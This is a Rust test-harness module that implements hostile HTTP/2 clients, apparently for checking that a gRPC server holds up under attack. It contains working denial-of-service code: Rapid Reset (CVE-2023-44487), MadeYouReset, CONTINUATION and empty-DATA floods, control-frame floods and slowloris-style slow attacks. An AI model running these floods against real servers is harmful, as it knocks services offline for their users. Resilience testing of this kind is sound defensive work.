//! Clients with bad intent or no manners, and a good one beside them.
//!
//! Each says whether and when the far side ended its connection. What it should have done is for
//! the tests to say.

pub mod beside;
mod frames;

use std::{io, path::Path, sync::Arc, time::Duration};

use attache::identity::Svid;
use rustls::{
    ClientConfig, RootCertStore,
    crypto::aws_lc_rs::default_provider,
    pki_types::{PrivateKeyDer, ServerName, pem::PemObject},
};
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    net::{TcpStream, UnixStream},
    time::{Instant, timeout_at},
};
use tokio_rustls::TlsConnector;

use self::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, call, frame, hello, hello_with, literal,
};
use super::wait::eventually;

/// Frames that are written at once.
const BATCH: u32 = 200;
/// Streams of those who read nothing.
const SLOW_STREAMS: u32 = 40;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// What no window can be widened by, since it is not empty before.
const WINDOW_MAX: [u8; 4] = 0x7fff_ffff_u32.to_be_bytes();

/// What is done to the far side.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Calls of a method that there is, each reset at once (CVE-2023-44487).
    RapidResetKnown,
    /// The same, of one that there is not.
    RapidResetUnknown,
    /// Calls that make the server reset them: a window is widened beyond its bound (CVE-2025-8671).
    MadeYouReset,
    /// A block of headers without end (CVE-2024-27316).
    Continuation,
    /// DATA frames with nothing in them (CVE-2019-9518).
    EmptyData,
    Ping,
    Settings,
    Priority,
    WindowUpdate,
    /// Not a word.
    SlowHandshake,
    /// Headers that begin and do not go on.
    SlowHeaders,
    /// A byte of a call each second.
    ByteByByte,
    /// Calls whose answers get no credit.
    ZeroWindow,
    /// 40 streams of answers of which nothing is taken off, on the usual windows.
    SlowStreams,
}

/// What became of an attacker.
#[derive(Clone, Debug)]
pub struct Outcome {
    pub attack: Attack,
    /// Frames that were sent.
    pub sent: u64,
    /// When the far side ended the connection, or the last of the calls of those who read nothing,
    /// and how; `None`: it did not.
    pub closed: Option<(Duration, String)>,
}

/// The calls that attackers make.
#[derive(Clone, Copy)]
pub struct Victim<'a> {
    /// `host:port` or `unix:/path`.
    pub address: &'a str,
    /// The member to be at `address`, and what an attacker shows who is one; `None`: in plaintext.
    pub tls: Option<(&'static str, &'a TlsConnector)>,
    /// Whom the calls are for.
    pub authority: &'a str,
    /// A unary method that there is, and that takes an empty message.
    pub known: &'a str,
    /// One that answers without end, with its message; for [`Attack::SlowStreams`], and for
    /// [`Attack::ZeroWindow`] where it is there.
    pub endless: Option<(&'a str, &'a [u8])>,
}

impl<'a> Victim<'a> {
    /// The services of whoever listens there itself.
    pub fn of(address: &'a str, known: &'a str) -> Self {
        Self {
            address,
            tls: None,
            authority: "localhost",
            known,
            endless: None,
        }
    }

    fn call(&self, path: &str) -> Vec<u8> {
        call(path, self.authority)
    }
}

/// Bytes both ways.
trait Stream: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Stream for T {}

impl Attack {
    /// Those that send as fast as they can.
    pub const FLOODS: [Self; 9] = [
        Self::RapidResetKnown,
        Self::RapidResetUnknown,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::WindowUpdate,
    ];
    /// Those that keep the far side waiting.
    pub const SLOW: [Self; 5] = [
        Self::SlowHandshake,
        Self::SlowHeaders,
        Self::ByteByByte,
        Self::ZeroWindow,
        Self::SlowStreams,
    ];

    /// Attacks until the far side ends the connection, `frames` are sent, or the time is over.
    pub async fn run(self, victim: Victim<'_>, frames: u64, time: Duration) -> Outcome {
        let mut one = Attacker {
            attack: self,
            io: reach(&victim).await.unwrap(),
            began: Instant::now(),
            until: Instant::now() + time,
            sent: 0,
            ended: 0,
            here: Vec::new(),
        };
        let closed = match one.carry_out(victim, frames).await {
            Ok(how) => how,
            // A reset or a broken pipe is an end, too.
            Err(error) => Some(error.kind().to_string()),
        };
        Outcome {
            attack: self,
            sent: one.sent,
            closed: closed.map(|how| (one.began.elapsed(), how)),
        }
    }

    /// Whether it must not answer: it keeps a block of headers open, between whose parts nothing
    /// else may stand, or has not even said hello.
    fn is_mute(self) -> bool {
        matches!(
            self,
            Self::Continuation | Self::SlowHandshake | Self::SlowHeaders | Self::ByteByByte
        )
    }

    /// What is sent once before the flood.
    fn opening(self, victim: Victim<'_>) -> Vec<u8> {
        let mut all = hello();
        match self {
            Self::Continuation => all.extend(frame(HEADERS, 0, 1, &victim.call(victim.known))),
            Self::EmptyData => {
                all.extend(frame(HEADERS, END_HEADERS, 1, &victim.call(victim.known)));
            }
            Self::RapidResetKnown
            | Self::RapidResetUnknown
            | Self::MadeYouReset
            | Self::Ping
            | Self::Settings
            | Self::Priority
            | Self::WindowUpdate
            | Self::SlowHandshake
            | Self::SlowHeaders
            | Self::ByteByByte
            | Self::ZeroWindow
            | Self::SlowStreams => {}
        }
        all
    }

    /// The frames of one round of the flood, the `round`th.
    fn round(self, victim: Victim<'_>, round: u32) -> Vec<u8> {
        let stream = (2 * round + 1) & 0x7fff_ffff;
        let opened = |path: &str| frame(HEADERS, END_HEADERS, stream, &victim.call(path));
        match self {
            Self::RapidResetKnown | Self::RapidResetUnknown => {
                let known = self == Self::RapidResetKnown;
                let path = if known {
                    victim.known
                } else {
                    "/no.Such/Method"
                };
                [opened(path), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            }
            Self::MadeYouReset => {
                let too_wide = frame(WINDOW_UPDATE, 0, stream, &WINDOW_MAX);
                [opened(victim.known), too_wide].concat()
            }
            Self::Continuation => {
                let mut block = Vec::new();
                literal(&mut block, "x", "y");
                frame(CONTINUATION, 0, 1, &block)
            }
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Self::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Self::SlowHandshake
            | Self::SlowHeaders
            | Self::ByteByByte
            | Self::ZeroWindow
            | Self::SlowStreams => Vec::new(),
        }
    }
}

struct Attacker {
    attack: Attack,
    io: Box<dyn Stream>,
    began: Instant,
    until: Instant,
    sent: u64,
    /// Calls that the far side has ended.
    ended: u32,
    here: Vec<u8>,
}

impl Attacker {
    async fn carry_out(&mut self, victim: Victim<'_>, frames: u64) -> io::Result<Option<String>> {
        if Attack::FLOODS.contains(&self.attack) {
            return self.flood(victim, frames).await;
        }
        match self.attack {
            Attack::SlowHeaders => {
                let begun = frame(HEADERS, 0, 1, &victim.call(victim.known));
                self.send(&[hello(), begun].concat(), 1).await?;
            }
            Attack::ByteByByte => {
                self.send(&hello(), 0).await?;
                for byte in frame(HEADERS, END_HEADERS, 1, &victim.call(victim.known)) {
                    self.send(&[byte], 0).await?;
                    let next = (Instant::now() + Duration::from_secs(1)).min(self.until);
                    if let Some(how) = self.watch(next).await? {
                        return Ok(Some(how));
                    }
                    if Instant::now() >= self.until {
                        return Ok(None);
                    }
                }
            }
            Attack::ZeroWindow => {
                // SETTINGS_INITIAL_WINDOW_SIZE is 4.
                let hello = hello_with(&[(4, 0)]);
                let (path, message) = victim.endless.unwrap_or((victim.known, &[0; 5]));
                let calls = opened(&victim, path, message);
                self.send(&[hello, calls].concat(), SLOW_STREAMS.into())
                    .await?;
            }
            Attack::SlowStreams => {
                let Some((path, message)) = victim.endless else {
                    return Ok(None);
                };
                let calls = opened(&victim, path, message);
                self.send(&[hello(), calls].concat(), SLOW_STREAMS.into())
                    .await?;
            }
            Attack::SlowHandshake
            | Attack::RapidResetKnown
            | Attack::RapidResetUnknown
            | Attack::MadeYouReset
            | Attack::Continuation
            | Attack::EmptyData
            | Attack::Ping
            | Attack::Settings
            | Attack::Priority
            | Attack::WindowUpdate => {}
        }
        self.watch(self.until).await
    }

    async fn flood(&mut self, victim: Victim<'_>, frames: u64) -> io::Result<Option<String>> {
        self.send(&self.attack.opening(victim), 0).await?;
        let mut round = 1;
        while self.sent < frames && Instant::now() < self.until {
            let batch = (round..round + BATCH).map(|round| self.attack.round(victim, round));
            let batch: Vec<_> = batch.collect();
            round += BATCH;
            self.send(&batch.concat(), BATCH.into()).await?;
            if let Some(how) = self.watch(Instant::now()).await? {
                return Ok(Some(how));
            }
        }
        // What it answers to the last of them may still be on its way.
        let soon = Instant::now() + Duration::from_secs(2);
        self.watch(soon.min(self.until)).await
    }

    /// Writes, and reads meanwhile: a far side that is not listened to would wait for us.
    async fn send(&mut self, bytes: &[u8], frames: u64) -> io::Result<()> {
        let (mut read, mut write) = tokio::io::split(&mut self.io);
        let mut some = vec![0; 64 << 10];
        let writing = write.write_all(bytes);
        tokio::pin!(writing);
        loop {
            tokio::select! {
                written = &mut writing => {
                    self.sent += frames;
                    return written;
                }
                count = read.read(&mut some) => {
                    let count = count?;
                    if count == 0 {
                        return Err(io::ErrorKind::UnexpectedEof.into());
                    }
                    self.here.extend(&some[..count]);
                }
                () = tokio::time::sleep_until(self.until) => return Ok(()),
            }
        }
    }

    /// Reads until `until`; how the far side ended the connection, if it did.
    async fn watch(&mut self, until: Instant) -> io::Result<Option<String>> {
        let mut some = vec![0; 64 << 10];
        loop {
            for (kind, flags, payload) in frames::taken(&mut self.here) {
                match kind {
                    GOAWAY => return Ok(Some(goaway(&payload))),
                    RST_STREAM if self.attack == Attack::ZeroWindow => {
                        self.ended += 1;
                        if self.ended == SLOW_STREAMS {
                            let code = payload[3];
                            return Ok(Some(format!("all calls reset, the last with {code}")));
                        }
                    }
                    _ if self.attack.is_mute() => {}
                    // Who answers these is taken for somebody who is there.
                    PING if flags & ACK == 0 => {
                        let answer = frame(PING, ACK, 0, &payload);
                        self.io.write_all(&answer).await?;
                    }
                    SETTINGS if flags & ACK == 0 => {
                        self.io.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
                    }
                    _ => {}
                }
            }
            match timeout_at(until, self.io.read(&mut some)).await {
                Err(_) => return Ok(None),
                Ok(count) => match count? {
                    0 => return Ok(Some("closed".to_owned())),
                    count => self.here.extend(&some[..count]),
                },
            }
        }
    }
}

/// Calls whose message is sent and whose answers are never taken.
fn opened(victim: &Victim<'_>, path: &str, message: &[u8]) -> Vec<u8> {
    let calls = (0..SLOW_STREAMS).map(|place| {
        let stream = 2 * place + 1;
        let head = frame(HEADERS, END_HEADERS, stream, &victim.call(path));
        [head, frame(DATA, END_STREAM, stream, message)].concat()
    });
    calls.collect::<Vec<_>>().concat()
}

fn goaway(payload: &[u8]) -> String {
    let code = payload.get(4..8).and_then(|code| code.try_into().ok());
    let code = code.map_or(u32::MAX, u32::from_be_bytes);
    let why = String::from_utf8_lossy(payload.get(8..).unwrap_or_default()).into_owned();
    format!("GOAWAY {code} {why}").trim_end().to_owned()
}

/// What a bad member shows: the certificate in a directory, and whom it trusts.
pub fn member(dir: &Path) -> TlsConnector {
    let svid = Svid::load(dir).unwrap();
    let mut roots = RootCertStore::empty();
    for root in svid.bundle() {
        roots.add(root.clone()).unwrap();
    }
    let key = PrivateKeyDer::from_pem_file(dir.join("key.pem")).unwrap();
    let config = ClientConfig::builder_with_provider(Arc::new(default_provider()))
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .with_root_certificates(roots)
        .with_client_auth_cert(svid.chain().to_vec(), key);
    let mut config = config.unwrap();
    config.alpn_protocols = vec![b"h2".to_vec()];
    TlsConnector::from(Arc::new(config))
}

async fn reach(victim: &Victim<'_>) -> io::Result<Box<dyn Stream>> {
    let io = connect(victim.address).await;
    let Some((name, connector)) = victim.tls else {
        return Ok(io);
    };
    let name = ServerName::try_from(name).unwrap();
    Ok(Box::new(connector.connect(name, io).await?))
}

/// Connects; a far side that is busy may take a while.
async fn connect(address: &str) -> Box<dyn Stream> {
    eventually("a connection", || async {
        let connected: io::Result<Box<dyn Stream>> = match address.strip_prefix("unix:") {
            Some(path) => match UnixStream::connect(path).await {
                Ok(stream) => Ok(Box::new(stream)),
                Err(error) => Err(error),
            },
            None => match TcpStream::connect(address).await {
                Ok(stream) => Ok(Box::new(stream)),
                Err(error) => Err(error),
            },
        };
        connected.map_err(|error| format!("{address}: {error}"))
    })
    .await
}
